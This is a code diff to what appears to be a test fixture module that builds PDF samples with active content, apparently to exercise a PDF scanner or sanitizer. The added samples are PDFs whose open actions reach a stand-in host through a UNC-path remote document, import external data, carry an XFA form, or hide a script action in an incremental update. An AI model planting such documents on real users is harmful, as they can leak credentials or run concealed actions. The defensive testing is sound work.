@@ -60,6 +60,18 @@ def _stream(number: int, options: bytes, data: bytes) -> bytes:
     return head + b"stream\n" + small + b"\nendstream\nendobj\n"
 
 
+def updated(catalog: bytes) -> bytes:
+    """Return an honest document with another catalogue appended to it (section 7.5.6)."""
+    first = pdf()
+    at = len(first)
+    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R %s >>\nendobj\n" % catalog
+    before = first.rindex(b"startxref\n") + len(b"startxref\n")
+    told = first[before:].split(b"\n")[0]
+    table = b"xref\n1 1\n%010d 00000 n \n" % at
+    trailer = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %s >>\n" % told
+    return first + body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % (at + len(body))
+
+
 def stream(data: bytes) -> bytes:
     """Return an object that holds *data* as it is."""
     return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)
@@ -81,6 +93,16 @@ ACTING: Mapping[str, bytes] = MappingProxyType(
         "submit-form": pdf(
             catalog=b"/OpenAction << /S /SubmitForm /F (http://gauntlet-egress.invalid/) >>"
         ),
+        "remote-document": pdf(
+            catalog=b"/OpenAction << /S /GoToR /D [0 /Fit] "
+            b"/F (\\\\\\\\gauntlet-egress.invalid\\\\a) >>"
+        ),
+        "import-data": pdf(catalog=b"/OpenAction << /S /ImportData /F (gauntlet.fdf) >>"),
+        "form-of-xml": pdf(
+            catalog=b"/AcroForm << /XFA 4 0 R /Fields [] >>", more=(stream(b"<a/>"),)
+        ),
+        # an honest document, until the last update is read
+        "updated-action": updated(b"/OpenAction " + SCRIPT),
         "embedded-file": pdf(
             catalog=b"/Names << /EmbeddedFiles << /Names [(a) %s] >> >>" % FILE,
             more=(stream(b"gauntlet"),),
